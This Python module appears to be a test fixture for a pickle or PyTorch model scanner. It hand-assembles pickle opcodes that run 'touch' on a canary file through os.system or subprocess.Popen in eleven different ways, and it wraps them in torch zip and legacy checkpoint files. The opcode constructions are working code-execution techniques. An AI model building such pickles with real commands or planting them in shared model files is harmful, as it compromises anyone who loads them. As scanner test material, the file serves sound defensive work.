"""Pickles that would run something, in every way that the format has, and the two kinds of torch file around them.

payload("reduce", canary) -> the opcodes of one value that touches ``canary`` when a pickle is loaded
"""

from __future__ import annotations

import io
import pickle
import struct
import zipfile
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from pathlib import Path

KINDS = (
    "reduce",
    "global",
    "build",
    "inst",
    "obj",
    "newobj",
    "newobj_ex",
    "extension",
    "nested",
    "persistent",
    "rebuild",
)


def _text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def _function(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def payload(kind: str, canary: Path) -> bytes:
    """Return the opcodes, without PROTO and STOP, that leave one value on the stack and would touch the canary."""
    command = f"touch {canary}"
    system = _function("os", "system")
    arguments = b"(" + _text(command) + b"t"
    reduce = system + arguments + b"R"
    every = {
        "reduce": reduce,
        "global": _text("os") + _text("system") + b"\x93" + arguments + b"R",  # STACK_GLOBAL
        "build": _function("collections", "OrderedDict") + b")R" + b"}" + _text("x") + reduce + b"sb",
        "inst": b"(" + _text(command) + b"ios\nsystem\n",
        "obj": b"(" + system + _text(command) + b"o",
        "newobj": _function("subprocess", "Popen") + b"(](" + _text("touch") + _text(str(canary)) + b"et\x81",
        "newobj_ex": _function("subprocess", "Popen") + b")}" + _text("args") + _text(command) + b"s\x92",
        "extension": b"\x82\x01" + arguments + b"R",
        "nested": _function("functools", "partial") + b"(" + system + _text(command) + b"tR)R",
        "persistent": b"(" + _text("storage") + system + _text("0") + _text("cpu") + b"K\x01tQ",
        "rebuild": _function("torch._tensor", "_rebuild_from_type_v2")
        + b"(" + system + b"c__builtin__\nobject\n" + arguments + b"}t" + b"R",
    }  # fmt: skip
    return every[kind]


def pickled(value: bytes, *, beside: bytes = b"") -> bytes:
    """Return a pickle of {"state_dict": {TENSOR}, "evil": value}; ``beside`` is the tensor's opcodes."""
    inner = b"}" + (_text("weight") + beside + b"s" if beside else b"")
    return b"\x80\x02}" + _text("state_dict") + inner + b"s" + _text("evil") + value + b"s."


TENSOR = (
    _function("torch._utils", "_rebuild_tensor_v2")
    + b"((" + _text("storage") + _function("torch", "FloatStorage") + _text("0") + _text("cpu") + b"K\x02tQ"
    + b"K\x00(K\x02t(K\x01t\x89" + _function("collections", "OrderedDict") + b")RtR"
)  # fmt: skip
"""The opcodes of torch.tensor([1.0, 2.0])."""
NUMBERS = struct.pack("<2f", 1.0, 2.0)


def in_zip(data: bytes, path: Path, *, compress: bool = False, more: dict[str, bytes] | None = None) -> Path:
    """Write torch's zip around a pickle."""
    kind = zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED
    with zipfile.ZipFile(path, "w", kind) as archive:
        archive.writestr("archive/data.pkl", data)
        archive.writestr("archive/byteorder", b"little")
        archive.writestr("archive/data/0", NUMBERS)
        for name, held in (more or {}).items():
            archive.writestr(name, held)
    return path


def in_legacy(data: bytes, path: Path) -> Path:
    """Write torch's older form around a pickle."""
    file = io.BytesIO()
    for value in (0x1950A86A20F9469CFC6C, 1001, {"protocol_version": 1001, "little_endian": True, "type_sizes": {}}):
        pickle.dump(value, file, protocol=2)
    file.write(data)
    pickle.dump(["0"] if b"FloatStorage" in data else [], file, protocol=2)
    file.write(struct.pack("<q", 2) + NUMBERS)
    path.write_bytes(file.getvalue())
    return path
